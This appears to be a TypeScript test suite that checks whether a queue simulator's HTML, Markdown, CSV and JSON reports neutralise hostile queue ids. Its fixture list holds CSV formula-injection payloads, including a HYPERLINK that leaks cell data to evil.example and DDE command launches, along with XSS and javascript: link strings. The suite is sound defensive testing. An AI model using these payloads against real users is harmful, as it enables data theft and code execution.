import { describe, expect, it } from "vitest";
import { buildReport, type ReportFormat } from "../../src/report/index.ts";
import { runScenario, withAnalytic } from "../../src/simulation/index.ts";
import { scenarioOf } from "../report/fixtures.ts";

// A queue id is any non-empty string (DESIGN.md), so a hostile one must come out of every
// report format as inert text: escaped in HTML and Markdown, a literal in CSV (no formula),
// intact in JSON, and never closing the embedded scenario's <script>.

const hostile = [
  `=HYPERLINK("http://evil.example/?x="&A1,"click")`,
  `+cmd|' /C calc'!A0`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  `-2+3+cmd|' /C calc'!A0`,
  `</script><script>alert(1)</script>`,
  `<img src=x onerror="alert('x')">`,
  `a|b\n# heading\r\n[link](javascript:alert(1))`,
];

function reportsFor(id: string) {
  const scenario = scenarioOf({
    version: 1, name: `hostile ${id}`, seed: 3, run: { messages: 400, warmup: 0, replications: 2 },
    queues: [{ id, arrival: { process: "poisson", rate: 5 }, service: { dist: "exponential", mean: 0.05 }, consumers: 1 }],
  });
  const input = { scenario, result: withAnalytic(scenario, runScenario(scenario)), meta: { date: "2025-01-02 03:04 UTC", version: "9.9.9-test" } };
  const text = (f: ReportFormat) => buildReport(f, input).map((p) => p.text).join("\n");
  return { html: text("html"), md: text("md"), csv: text("csv"), json: text("json") };
}

/** The cells of a CSV text (RFC 4180 quoting), enough to read back what a spreadsheet sees. */
function csvCells(csv: string): string[] {
  const cells: string[] = [];
  const re = /("([^"]|"")*"|[^,\r\n]*)(,|\r?\n|$)/g;
  for (let m = re.exec(csv); m && m[0] !== ""; m = re.exec(csv)) {
    const c = m[1]!;
    cells.push(c.startsWith('"') ? c.slice(1, -1).replace(/""/g, '"') : c);
  }
  return cells;
}

describe.each(hostile)("queue id %j in every report format", (id) => {
  const r = reportsFor(id);

  it("HTML: no live markup from the id, and the embedded scenario reads back exactly", () => {
    expect(id.includes("<") && r.html.includes(id)).toBe(false);
    expect(r.html).not.toMatch(/<script>alert|<img src=x/);
    const m = /<script type="application\/json" id="kendall-scenario">([\s\S]*?)<\/script>/.exec(r.html);
    expect(m).not.toBeNull();
    expect((JSON.parse(m![1]!) as { queues: { id: string }[] }).queues[0]!.id).toBe(id);
  });

  it("CSV: no cell a spreadsheet would run as a formula", () => {
    const cells = csvCells(r.csv);
    expect(cells.some((c) => c.includes(id.replace(/\r?\n/g, "\n").slice(1, 12)))).toBe(true);
    for (const c of cells) if (/^[=+@\t\r]/.test(c) || (/^-/.test(c) && !/^-?[\d.]+(e[+-]?\d+)?$|^-inf$/i.test(c))) expect.fail(`formula cell ${JSON.stringify(c)}`);
  });

  it("Markdown: the id cannot start markup, break a table row or add a link", () => {
    expect(r.md).not.toContain("[link](javascript");
    expect(r.md).not.toMatch(/^# heading/m);
    // Markdown escapes with a backslash: `\<img` is text, a bare `<img` would be markup.
    expect(r.md).not.toMatch(/(^|[^\\])<(script|img)/m);
  });

  it("JSON: the id survives exactly", () => {
    const j = JSON.parse(r.json) as { scenario: { queues: { id: string }[] }; result: { queues: Record<string, unknown> } };
    expect(j.scenario.queues[0]!.id).toBe(id);
    expect(Object.keys(j.result.queues)).toContain(id);
  });
});
